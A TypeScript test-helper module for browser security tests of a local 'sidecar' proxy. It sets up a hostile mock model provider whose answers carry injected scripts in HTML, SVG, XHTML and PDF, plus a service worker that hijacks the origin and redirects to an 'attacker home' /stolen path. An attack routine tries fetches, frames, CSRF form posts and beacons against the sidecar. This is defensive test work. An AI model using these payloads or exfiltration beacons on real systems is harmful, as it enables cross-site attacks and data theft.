/**
 * The hostile side of the browser tests: a provider whose answers attack the page that shows them, a web page that
 * attacks the sidecar, and what both of them found out.
 *
 * @module
 */

import { serve, type Served } from "../../helpers/peers/sockets.ts";

/** A provider that counts who asks, and answers with code. */
export interface Hostile extends AsyncDisposable {
  readonly port: number;
  /** `METHOD path key` of each request. */
  readonly asked: string[];
}

/** The script in everything it answers: uses the origin it runs on, and tells home. The last one stays as a worker. */
function payload(home: string, name: string): string {
  return `(async () => {
    const tell = (what) => fetch(${JSON.stringify(home)} + "/ran?" + new URLSearchParams({
      name: ${JSON.stringify(name)}, origin: self.origin, what }), { mode: "no-cors" });
    await tell("ran");
    await fetch("/metrics").then((r) => r.text()).then((text) => tell("read " + text.slice(0, 20)), () => {});
    await fetch("/u/a/v1/spent-by-script", { method: "POST", body: "{}" }).catch(() => {});
    if (${name === LAST} && self.navigator?.serviceWorker) {
      await navigator.serviceWorker.register("/u/a/v1/sw.js", { scope: "/" }).then(() => tell("worker"), () => {});
    }
  })();`;
}

/** What stands at a path of the provider: type and text. */
function bodyOf(home: string, file: string): [type: string, text: string] {
  const script = payload(home, file);
  switch (file) {
    case "page.html":
      return ["text/html", `<!doctype html><title>p</title><script>${script}</script>`];
    case "models":
      return ["text/html", `<!doctype html><script>${script}</script>`];
    case "sniffed":
      return ["text/plain", `<!doctype html><script>${script}</script>`];
    case "x.svg":
      return [
        "image/svg+xml",
        `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
      ];
    case "x.xml":
      return [
        "application/xhtml+xml",
        `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${script}]]></script></body></html>`,
      ];
    case "x.pdf":
      return [
        "application/pdf",
        "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n",
      ];
    case "x.css":
      return ["text/css", "body { background: url(/u/a/v1/from-css) }"];
    case "sw.js":
      return [
        "text/javascript",
        `self.addEventListener("fetch", (e) => e.respondWith(new Response("owned")));`,
      ];
    case "x.js":
      return ["text/javascript", script];
  }
  return ["application/json", "{}"];
}

/** Starts the provider. @param home where its code reports to */
export function hostileProvider(home: string): Hostile {
  const asked: string[] = [];
  const server = serve((request) => {
    const { pathname } = new URL(request.url);
    asked.push(`${request.method} ${pathname} ${request.headers.get("authorization") ?? "no key"}`);
    const [type, text] = bodyOf(home, pathname.replace(/^\/v1\//, ""));
    const headers = new Headers({
      "content-type": type,
      "service-worker-allowed": "/",
      "access-control-allow-origin": "*",
      "set-cookie": "owned=1; path=/",
      link: "</u/a/v1/x.js>; rel=preload; as=script",
      "content-security-policy": "default-src * 'unsafe-inline'",
      "cross-origin-resource-policy": "cross-origin",
      "x-content-type-options": "none",
    });
    if (pathname === "/v1/moved") {
      headers.set("location", `${home}/stolen`);
      return new Response(null, { status: 307, headers });
    }
    if (pathname === "/v1/refresh") headers.set("refresh", `0; url=${home}/stolen`);
    return new Response(text, { headers });
  });
  return { port: server.port, asked, [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() };
}

/** A web page's own server, and a list of what was reported to it. */
export interface Home extends AsyncDisposable {
  readonly port: number;
  readonly told: string[];
}

/** Starts it. Its page at `/` is empty and free of any policy. */
export function attackerHome(): Home {
  const told: string[] = [];
  const server: Served = serve((request) => {
    const { pathname, searchParams, search } = new URL(request.url);
    if (pathname === "/ran") told.push([...searchParams.values()].join(" "));
    else if (pathname !== "/" && pathname !== "/favicon.ico") told.push(`${pathname}${search}`);
    return new Response("<!doctype html><title>evil</title><body>", {
      headers: { "content-type": "text/html", "access-control-allow-origin": "*" },
    });
  });
  return { port: server.port, told, [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() };
}

/** Everything below the sidecar that an attack is aimed at. */
export const FILES: string[] = [
  "models",
  "sniffed",
  "x.svg",
  "x.xml",
  "x.pdf",
  "x.css",
  "x.js",
  "moved",
  "refresh",
  "page.html",
];
/** The one that installs a worker, after which the origin answers with nothing else. */
export const LAST = "page.html";

/**
 * Runs in the page: every way in which a page can ask, frame, load, post to or register what stands at `base`.
 *
 * @returns what it could read, each as `way: text`
 */
export async function attack(
  { base, own, files }: { base: string; own: string; files: string[] },
): Promise<string[]> {
  // deno-lint-ignore no-explicit-any -- the page's globals, which Deno's types do not know
  const page = globalThis as any;
  const { document, navigator } = page;
  const got: string[] = [];
  const all: Promise<unknown>[] = [];
  /** Ends when it loads, fails, or two seconds have passed. */
  const settled = (element: EventTarget, begin: () => void) =>
    new Promise<void>((resolve) => {
      for (const name of ["load", "error"]) element.addEventListener(name, () => resolve());
      setTimeout(resolve, 2_000);
      begin();
    });
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    all.push(settled(element, () => document.body.append(element)));
    return element;
  };
  const read = (way: string, ask: Promise<Response>) =>
    all.push(
      ask.then(async (answer) => {
        const text = await answer.text();
        if (answer.ok && text !== "") got.push(`${way}: ${text.slice(0, 40)}`);
      }).catch(() => undefined),
    );
  for (const path of [`${own}/metrics`, `${own}/healthz`]) {
    read(`fetch ${path}`, fetch(path));
    read(`fetch no-cors ${path}`, fetch(path, { mode: "no-cors" }));
    add("script", { src: path });
  }
  for (const file of files) {
    const url = `${base}/${file}`;
    read(`fetch ${url}`, fetch(url));
    read(`fetch no-cors ${url}`, fetch(url, { mode: "no-cors", credentials: "include" }));
    for (const rel of ["stylesheet", "prefetch", "modulepreload", "icon", "manifest"]) {
      add("link", { rel, href: url });
    }
    add("link", { rel: "preload", as: "script", href: url });
    add("script", { src: url });
    add("script", { src: url, type: "module" });
    for (const tag of ["img", "iframe", "embed", "audio", "video"]) add(tag, { src: url });
    add("iframe", { src: url, sandbox: "allow-scripts" });
    add("object", { data: url });
    all.push(import(url).catch(() => undefined));
    if (navigator.serviceWorker) {
      all.push(navigator.serviceWorker.register(url, { scope: "/" }).catch(() => undefined));
    }
    for (const Kind of [page.Worker, page.SharedWorker]) {
      try {
        const worker = new Kind(url);
        all.push(settled(worker, () => {}));
      } catch {
        // Another origin's: the browser refuses by itself
      }
    }
  }
  const json = '{"model":"m","input":[],"messages":[]}';
  for (const path of ["responses", "chat/completions", "messages", "alpha/search", "files"]) {
    const url = `${base}/${path}`;
    for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"]) {
      const init = { method: "POST", body: json, headers: { "content-type": type } };
      read(`POST ${type} ${url}`, fetch(url, init));
      read(`POST no-cors ${url}`, fetch(url, { ...init, mode: "no-cors" }));
    }
    read(
      `POST blob ${url}`,
      fetch(url, { method: "POST", mode: "no-cors", body: new Blob([json]) }),
    );
    navigator.sendBeacon(url, json);
    for (
      const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]
    ) {
      const frame = document.createElement("iframe");
      frame.name = `f${Math.random()}`;
      const form = document.createElement("form");
      Object.assign(form, { action: url, method: "post", enctype, target: frame.name });
      form.innerHTML = `<input name='{"model":"m","input":[],"x":"' value='"}'>`;
      document.body.append(form, frame);
      all.push(settled(frame, () => form.submit()));
    }
  }
  try {
    const events = new page.EventSource(`${base}/models`);
    all.push(settled(events, () => {}).then(() => events.close()));
    const socket = new page.WebSocket(`${base}/responses`.replace("http", "ws"));
    all.push(settled(socket, () => {}));
  } catch {
    // Refused by the browser itself
  }
  await Promise.all(all);
  return got;
}
